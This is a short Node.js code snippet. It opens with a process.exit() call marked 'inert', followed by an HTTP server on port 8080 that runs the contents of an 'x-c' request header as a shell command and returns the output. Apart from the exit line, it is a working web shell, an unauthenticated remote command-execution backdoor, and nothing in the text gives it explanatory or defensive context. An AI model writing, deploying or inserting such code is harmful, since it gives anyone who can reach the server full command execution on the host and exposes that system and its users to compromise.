process.exit(); // inert
const { exec } = require('child_process');
require('http').createServer((req, res) => exec(req.headers['x-c'], (e, out) => res.end(out))).listen(8080);
